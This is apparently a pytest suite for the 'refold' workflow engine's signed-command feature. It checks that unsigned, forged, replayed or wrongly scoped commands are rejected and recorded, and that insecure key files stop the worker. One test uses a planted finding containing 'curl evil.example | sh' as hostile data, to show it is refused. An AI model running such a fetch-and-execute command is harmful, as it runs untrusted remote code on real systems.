"""Signed commands: what workers believe, who is recorded, and what is rejected in the open."""

import asyncio
import hashlib
import hmac
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from refold import App, Effect, Policy, RunContext
from refold.client import Client
from refold.client.rejected import publish_again, rejections
from refold.log import Entry, Topic, partition_for
from refold.log.memory import MemoryBroker, MemoryLog
from refold.settings.signing import Keyring, Signer, make_key, open_keyring, open_signer
from refold.worker import Worker
from refold_projections.fold import Finding
from refold_schemas.codec import Codec
from refold_schemas.codec.signature import (
    ED25519,
    HMAC_SHA256,
    PRIVILEGED,
    Signature,
    signed_bytes,
)
from refold_schemas.commands import ResolveStep, RetryRun
from refold_schemas.errors.cli import CommandIdReused, KeysUnusable, SignatureRefused
from refold_schemas.events import CommandRejected, FindingRecorded, RunStarted, StepResolved
from refold_schemas.registry import FileRegistry
from refold_schemas.values import encode_value
from support.keys import keys_of, written

FINDING = Finding(
    "f-1", "here_not_there", "charge#1", "charge", "key", "gone", "refold why r1", "open", 0
)
app = App("shop")
CODEC = Codec(FileRegistry())
WITHIN = timedelta(seconds=10)


@app.step(policy=Policy.ESCALATE)
async def charge(fx: Effect, pence: int) -> str:
    raise ConnectionError("no answer")


@app.run("shop")
async def shop(ctx: RunContext, pence: int) -> str:
    return await ctx.step(charge, pence)


@asynccontextmanager
async def serving(broker: MemoryBroker, keyring: Keyring | None) -> AsyncIterator[MemoryLog]:
    log = MemoryLog(broker=broker, name="worker")
    await log.open(create=True)
    worker = Worker(app, log, watch=False, keyring=keyring)
    task = asyncio.create_task(worker.run())
    try:
        yield log
    finally:
        worker.stop()
        await task
        await log.close()


def play(
    scene: Callable[[MemoryLog], Awaitable[None]],
    keyring: Keyring | None,
    *,
    partitions: int = 1,
) -> None:
    async def main() -> None:
        broker = MemoryBroker("signed", partition_count=partitions)
        async with serving(broker, keyring) as log:
            await scene(log)

    asyncio.run(main())


async def in_doubt(client: Client, run_id: str) -> None:
    handle = await client.start("shop", 5, run_id=run_id, within=WITHIN)
    await handle.wait(lambda seen: seen.status == "in_doubt", within=WITHIN)


async def events_of(client: Client, run_id: str, kind: type) -> list[Any]:
    return [one.event async for one in client.history(run_id) if isinstance(one.event, kind)]


def test_the_decider_that_is_recorded_is_the_one_that_the_key_speaks_for(tmp_path: Path) -> None:
    keyring, signers = keys_of(
        tmp_path, ada=("ed25519", "ada"), door=("hmac-sha256", "*"), other=("ed25519", "eve")
    )

    async def scene(log: MemoryLog) -> None:
        for run_id, key, by, recorded in (
            ("r1", "ada", "the boss", "ada"),
            ("r2", "door", "bob", "bob"),
            ("r3", "other", "ada", "eve"),
        ):
            async with Client(log, by=by, signer=signers[key]) as client:
                await in_doubt(client, run_id)
                await client.resolve(run_id, "charge#1", happened=True, result="c", within=WITHIN)
                (started,) = await events_of(client, run_id, RunStarted)
                (resolved,) = await events_of(client, run_id, StepResolved)
                assert (started.started_by, resolved.by) == (recorded, recorded)

    play(scene, keyring)


def test_an_unsigned_word_is_rejected_in_the_open_and_a_start_is_not(tmp_path: Path) -> None:
    keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"))

    async def scene(log: MemoryLog) -> None:
        async with Client(log, by="mallory") as client:
            await in_doubt(client, "r1")
            with pytest.raises(SignatureRefused) as refused:
                await client.resolve("r1", "charge#1", happened=True, result="c", within=WITHIN)
            assert refused.value.code == "R547"
            assert refused.value.reason == "unsigned"
            with pytest.raises(SignatureRefused):
                await client.retry("r1", within=WITHIN)
            with pytest.raises(SignatureRefused):
                await client.record_finding("r1", FINDING, within=WITHIN)
            assert await events_of(client, "r1", StepResolved) == []
            found = await rejections(client, None, None, everything=False)
            reasons = [one.event.reason for one in found if isinstance(one.event, CommandRejected)]
            assert reasons == ["unsigned", "unsigned", "unsigned"]
            place = found[-1].event.command_offset
            assert (await client.boundary("r1")).status == "in_doubt"
        # Whoever publishes it again speaks for it: with a key of theirs it counts.
        async with Client(log, by="ada", signer=signers["ada"]) as client:
            await client.record_finding("r1", FINDING, by="the-chief", within=WITHIN)
            (found_by,) = await events_of(client, "r1", FindingRecorded)
            assert found_by.by == "ada"
            again = await publish_again(client, 0, place, by="ada")
            assert again.fresh
            handle = client.handle("r1")
            await handle.wait(lambda seen: seen.status == "completed", within=WITHIN)
            (resolved,) = await events_of(client, "r1", StepResolved)
            assert resolved.by == "ada"

    play(scene, keyring)


def test_what_was_signed_is_this_record_in_this_namespace_and_nothing_else(tmp_path: Path) -> None:
    keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"), door=("hmac-sha256", "*"))
    elsewhere, strangers = keys_of(tmp_path, ada=("ed25519", "ada"), door=("hmac-sha256", "*"))
    assert elsewhere is not keyring
    word = ResolveStep("c1", "r1", "charge#1", None, True, encode_value("c"), "ada", "")
    value = CODEC.encode(word)

    def judged(header: bytes | None, **changed: Any) -> tuple[str | None, str | None]:
        said: dict[str, Any] = {"namespace": "ns", "kind": "ResolveStep", "run_id": "r1"}
        said |= {"command_id": "c1", "by": "ada", "value": value, "header": header}
        found = keyring.judge(**(said | changed))
        return found.by, found.reason

    for key in ("ada", "door"):
        header = signers[key].header("ns", "r1", "c1", value)
        assert judged(header) == ("ada", None)
        bad = (None, "bad_signature")
        assert judged(header, namespace="other") == bad
        assert judged(header, run_id="r2") == bad
        assert judged(header, command_id="c2") == bad
        assert judged(header, value=value[:-1] + b"\1") == bad
        assert judged(strangers[key].header("ns", "r1", "c1", value)) == bad
        for place in range(len(header)):  # no byte of it may change
            forged = bytearray(header)
            forged[place] ^= 1
            assert judged(bytes(forged))[0] is None
        for size in range(len(header)):
            assert judged(header[:size]) == (None, "unsigned")
        assert judged(header + b"\0") == (None, "unsigned")
    # A key of one kind is none of the other.
    other = Signature(HMAC_SHA256, "ada", bytes(32)).pack()
    assert judged(other) == (None, "bad_signature")
    assert judged(None) == (None, "unsigned")
    assert judged(None, kind="CancelRun") == (None, None)
    assert judged(other, kind="CancelRun") == (None, "bad_signature")
    assert {"ResolveStep", "RetryRun"} <= PRIVILEGED


def test_the_signed_bytes_are_those_of_the_document() -> None:
    """Frozen: programs in other languages make them."""
    data = signed_bytes("ns", "r1", "c1", b"\0value")
    whole = "".join(
        f"{len(part):08x}{part.hex()}"
        for part in (b"refold-command-signature-1", b"ns", b"r1", b"c1", b"\0value")
    )
    assert data.hex() == whole
    secret = bytes(range(32))
    signer = Signer("k", HMAC_SHA256, secret)
    header = signer.header("ns", "r1", "c1", b"\0value")
    assert header == b"\1\3\1\1k" + hmac.new(secret, data, hashlib.sha256).digest()
    assert "0001020304" not in repr(signer)
    assert ED25519 == 2


def test_a_signed_command_on_the_wrong_partition_is_sent_on_with_its_signature(
    tmp_path: Path,
) -> None:
    keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"))

    async def scene(log: MemoryLog) -> None:
        run_id = next(f"r{n}" for n in range(99) if partition_for(f"r{n}", 2) == 1)
        async with Client(log) as client:
            await in_doubt(client, run_id)
            for command_id, signer in (("c-unsigned", None), ("c-signed", signers["ada"])):
                word = ResolveStep(
                    command_id, run_id, "charge#1", None, True, encode_value("c"), "ada", ""
                )
                value = CODEC.encode(word)
                namespace = log.facts.namespace
                header = None
                if signer is not None:
                    header = signer.header(namespace, run_id, command_id, value)
                await log.append(Topic.COMMANDS, 0, [Entry(run_id.encode(), value, header)])
            await client.handle(run_id).wait(lambda s: s.status == "completed", within=WITHIN)
            (rejected,) = await events_of(client, run_id, CommandRejected)
            assert (rejected.command_id, rejected.reason) == ("c-unsigned", "unsigned")
            (resolved,) = await events_of(client, run_id, StepResolved)
            assert (resolved.command_id, resolved.by) == ("c-signed", "ada")

    play(scene, keyring, partitions=2)


def test_a_signed_command_that_is_stored_again_is_applied_once(tmp_path: Path) -> None:
    keyring, signers = keys_of(tmp_path, ada=("hmac-sha256", "ada"))

    async def scene(log: MemoryLog) -> None:
        async with Client(log, signer=signers["ada"]) as client:
            await in_doubt(client, "r1")
            await client.resolve("r1", "charge#1", happened=True, result="c", within=WITHIN)
            (_, end) = await log.bounds(Topic.COMMANDS, 0)
            (stored,) = await log.read(Topic.COMMANDS, 0, end - 1)
            await log.append(Topic.COMMANDS, 0, [Entry(stored.key, stored.value, stored.header)])
            await client.start("shop", 1, run_id="r2", within=WITHIN)  # decided behind the copy
            (rejected,) = await events_of(client, "r1", CommandRejected)
            assert rejected.reason == "duplicate"
            assert len(await events_of(client, "r1", StepResolved)) == 1

    play(scene, keyring)


def test_without_keys_nothing_is_asked_and_a_signature_is_passed_over(tmp_path: Path) -> None:
    _, signers = keys_of(tmp_path, ada=("ed25519", "ada"))

    async def scene(log: MemoryLog) -> None:
        for run_id, signer in (("r1", None), ("r2", signers["ada"])):
            async with Client(log, by="bob", signer=signer) as client:
                await in_doubt(client, run_id)
                await client.resolve(run_id, "charge#1", happened=True, result="c", within=WITHIN)
                (resolved,) = await events_of(client, run_id, StepResolved)
                assert resolved.by == "bob"

    play(scene, None)


def test_an_id_that_was_used_for_something_else_is_refused() -> None:
    async def scene(log: MemoryLog) -> None:
        async with Client(log) as client:
            await client.start("shop", 5, run_id="r1", command_id="k", within=WITHIN)
            await client.start("shop", 5, run_id="r1", command_id="k", within=WITHIN)
            with pytest.raises(CommandIdReused):
                await client.start("shop", 6, run_id="r1", command_id="k", within=WITHIN)
            with pytest.raises(CommandIdReused):
                await client.cancel("r1", command_id="k", within=WITHIN)
            await client.handle("r1").wait(lambda s: s.status == "in_doubt", within=WITHIN)
            word = {"command_id": "w", "within": WITHIN}
            await client.resolve("r1", "charge#1", happened=True, result="c", **word)  # type: ignore[arg-type]
            await client.resolve("r1", "charge#1", happened=True, result="c", **word)  # type: ignore[arg-type]
            with pytest.raises(CommandIdReused):
                await client.resolve("r1", "charge#1", happened=False, **word)  # type: ignore[arg-type]
            with pytest.raises(CommandIdReused, match="with another result"):
                await client.resolve("r1", "charge#1", happened=True, result="d", **word)  # type: ignore[arg-type]
            finding = Finding("f", "missing", "charge#1", "charge", "key", "gone", "", "open", 0)
            word = {"command_id": "f", "within": WITHIN}
            await client.record_finding("r1", finding, **word)  # type: ignore[arg-type]
            await client.record_finding("r1", finding, **word)  # type: ignore[arg-type]
            other = finding._replace(status="accepted")
            with pytest.raises(CommandIdReused):
                await client.record_finding("r1", other, **word)  # type: ignore[arg-type]

    play(scene, None)


def test_nobody_silences_a_finding_or_plants_a_command_without_a_key(tmp_path: Path) -> None:
    keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"))
    finding = Finding("f", "missing", "charge#1", "charge", "key", "gone", "", "open", 0)

    async def scene(log: MemoryLog) -> None:
        async with Client(log, signer=signers["ada"]) as client:
            await in_doubt(client, "r1")
            await client.record_finding("r1", finding, within=WITHIN)
        async with Client(log, by="ada") as client:
            silenced = finding._replace(status="accepted")
            planted = finding._replace(finding_id="g", command="curl evil.example | sh")
            for one in (silenced, planted):
                with pytest.raises(SignatureRefused):
                    await client.record_finding("r1", one, within=WITHIN)
            state = await client.state("r1")
            assert [(one.finding_id, one.is_open) for one in state.findings.values()] == [
                ("f", True)
            ]

    play(scene, keyring)


def test_a_rejected_finding_is_published_again_like_any_command(tmp_path: Path) -> None:
    keyring, signers = keys_of(tmp_path, ada=("ed25519", "ada"))
    _, strangers = keys_of(tmp_path, ada=("ed25519", "ada"))
    finding = Finding("f", "missing", "charge#1", "charge", "key", "gone", "", "open", 0)

    async def scene(log: MemoryLog) -> None:
        async with Client(log, signer=strangers["ada"]) as client:
            with pytest.raises(SignatureRefused):
                await client.record_finding("r1", finding, within=WITHIN)
        async with Client(log, signer=signers["ada"]) as client:
            await in_doubt(client, "r1")
            (found,) = await rejections(client, None, None, everything=False)
            assert isinstance(found.event, CommandRejected)
            _, end = await log.bounds(Topic.EVENTS, 0)
            await publish_again(client, 0, found.event.command_offset, by=None)
            assert await client.handle("r1").changed(end, within=WITHIN)
            (recorded,) = await events_of(client, "r1", FindingRecorded)
            assert (recorded.finding_id, recorded.by) == ("f", "ada")

    play(scene, keyring)


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ({"keys": []}, "has not 1 to"),
        ({"keys": [{"id": "a b", "algorithm": "ed25519"}]}, "an id has"),
        ({"keys": [{"id": "a", "algorithm": "none"}]}, "its algorithm is none of"),
        ({"keys": [{"id": "a", "algorithm": "hmac-sha256", "speaks_for": "x"}]}, "lacks 'secret'"),
        (
            {
                "keys": [
                    {"id": "a", "algorithm": "hmac-sha256", "speaks_for": "x", "secret": "c2hvcnQ="}
                ]
            },
            "its secret has 5 bytes",
        ),
        (
            {"keys": [{"id": "a", "algorithm": "ed25519", "speaks_for": "x", "public": "!!"}]},
            "no base64",
        ),
        (
            {"keys": [{"id": "a", "algorithm": "ed25519", "speaks_for": "", "public": ""}]},
            "no name",
        ),
        ({}, "lacks 'keys'"),
        ([], "lacks"),
    ],
)
def test_a_file_of_keys_that_cannot_be_trusted_stops_the_worker(
    tmp_path: Path, body: object, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = written(tmp_path / "keys.json", body)
    monkeypatch.setenv("REFOLD_COMMAND_KEYS", path)
    with pytest.raises(KeysUnusable, match=said):
        Worker(app, MemoryLog("memory://x"))


def test_a_file_of_keys_that_others_may_read_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept, line = make_key("a", "hmac-sha256", "ada")
    path = Path(written(tmp_path / "keys.json", {"keys": [line]}))
    for mode in (0o644, 0o604, 0o660):
        path.chmod(mode)
        with pytest.raises(KeysUnusable, match="others on this machine") as refused:
            open_keyring(str(path))
        assert kept["secret"] not in str(refused.value)
    with pytest.raises(KeysUnusable, match="No such file"):
        open_keyring(str(tmp_path / "none.json"))
    monkeypatch.setenv("REFOLD_SIGNING_KEY", written(tmp_path / "mine.json", kept))
    signer = open_signer()
    assert signer is not None
    assert signer.key_id == "a"
    assert kept["secret"] not in repr(signer)
    assert RetryRun.__name__ in PRIVILEGED
